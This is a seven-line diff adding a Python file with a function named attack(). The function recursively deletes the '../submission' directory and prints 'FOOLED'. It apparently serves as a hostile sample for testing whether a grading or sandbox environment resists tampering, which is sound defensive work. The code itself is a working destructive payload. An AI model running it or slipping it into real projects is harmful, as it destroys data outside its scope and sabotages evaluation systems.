@@ -1,0 +1,7 @@
+import shutil
+
+
+@at_once
+def attack():
+    shutil.rmtree('../submission')
+    print('FOOLED')
